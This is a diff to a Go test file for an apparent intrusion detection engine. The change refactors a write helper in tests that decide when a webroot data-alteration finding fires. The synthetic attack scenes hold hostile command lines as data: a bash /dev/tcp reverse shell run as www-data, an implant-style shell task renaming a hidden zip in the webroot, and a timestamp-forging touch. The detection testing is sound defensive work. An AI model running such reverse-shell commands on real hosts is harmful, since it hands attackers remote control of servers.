@@ -104,15 +104,6 @@ func TestTimestompedPlantRun(t *testing.T) {
 // server's worker, by a program whose own connection is all the channel
 // there is (an app's API client), by touch, or a new file, is not.
 func TestWebrootDataAltered(t *testing.T) {
-	write := func(e *Engine, s *synth, pid, ppid int, uid uint32, exe, p string, created bool) []*Finding {
-		w := s.file(parser.KindFileWrite, pid, ppid, uid, exe, p, true)
-		nt := "NORMAL"
-		if created {
-			nt = "CREATE"
-		}
-		w.Paths = []parser.PathRecord{{Name: p, Nametype: nt}}
-		return e.Observe(w, s.tree)
-	}
 	reverseShell := func(t *testing.T) (*Engine, *synth) {
 		e, s := webShellScene(t)
 		s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")
@@ -122,26 +113,26 @@ func TestWebrootDataAltered(t *testing.T) {
 	}
 	t.Run("a shell in the channel appends to the data", func(t *testing.T) {
 		e, s := reverseShell(t)
-		if has(write(e, s, 211, 210, 33, "/usr/bin/bash", "/var/www/html/data/orders.csv", false), "webroot-data-altered") == nil {
+		if has(observeWrite(e, s, 211, 210, 33, "/usr/bin/bash", "/var/www/html/data/orders.csv", false), "webroot-data-altered") == nil {
 			t.Error("no finding")
 		}
 	})
 	t.Run("a new file", func(t *testing.T) {
 		e, s := reverseShell(t)
-		if has(write(e, s, 211, 210, 33, "/usr/bin/bash", "/var/www/html/data/new.csv", true), "webroot-data-altered") != nil {
+		if has(observeWrite(e, s, 211, 210, 33, "/usr/bin/bash", "/var/www/html/data/new.csv", true), "webroot-data-altered") != nil {
 			t.Error("a new file is not data changed")
 		}
 	})
 	t.Run("touch in the channel", func(t *testing.T) {
 		e, s := reverseShell(t)
 		s.exec(212, 211, 33, "www-data", "/tmp", "/usr/bin/touch", "touch", "-r", "a", "/var/www/html/data/orders.csv")
-		if has(write(e, s, 212, 211, 33, "/usr/bin/touch", "/var/www/html/data/orders.csv", false), "webroot-data-altered") != nil {
+		if has(observeWrite(e, s, 212, 211, 33, "/usr/bin/touch", "/var/www/html/data/orders.csv", false), "webroot-data-altered") != nil {
 			t.Error("touch changes no content")
 		}
 	})
 	t.Run("the worker writes its data", func(t *testing.T) {
 		e, s := webShellScene(t)
-		if has(write(e, s, 200, 1, 33, "/usr/sbin/php-fpm8.2", "/var/www/html/data/orders.csv", false), "webroot-data-altered") != nil {
+		if has(observeWrite(e, s, 200, 1, 33, "/usr/sbin/php-fpm8.2", "/var/www/html/data/orders.csv", false), "webroot-data-altered") != nil {
 			t.Error("the server's own write")
 		}
 	})
@@ -155,14 +146,14 @@ func TestWebrootDataAltered(t *testing.T) {
 		if e.state.info(s.tree.ByPID("", 400)[0]).channel == nil {
 			t.Fatal("the scene is not what it means to be: the mailer's connection opened no channel")
 		}
-		if g := write(e, s, 400, 399, 33, "/usr/bin/tclsh8.6", "/var/www/html/data/newsletter-queue.csv", false); has(g, "webroot-data-altered") != nil {
+		if g := observeWrite(e, s, 400, 399, 33, "/usr/bin/tclsh8.6", "/var/www/html/data/newsletter-queue.csv", false); has(g, "webroot-data-altered") != nil {
 			t.Errorf("a program's own connection alone: %v", ids(g))
 		}
 		// the same program running what it received through a shell (an
 		// implant's task, shop-avatar's root php-fpm over UDP): its hands
 		s.exec(401, 400, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "mv -f /var/www/html/downloads/.p.zip /var/www/html/downloads/p.zip")
 		s.exec(402, 401, 33, "www-data", "/var/www", "/usr/bin/mv", "mv", "-f", "/var/www/html/downloads/.p.zip", "/var/www/html/downloads/p.zip")
-		if g := write(e, s, 402, 401, 33, "/usr/bin/mv", "/var/www/html/downloads/p.zip", false); has(g, "webroot-data-altered") == nil {
+		if g := observeWrite(e, s, 402, 401, 33, "/usr/bin/mv", "/var/www/html/downloads/p.zip", false); has(g, "webroot-data-altered") == nil {
 			t.Errorf("a task the program's channel ran through a shell: %v", ids(g))
 		}
 	})
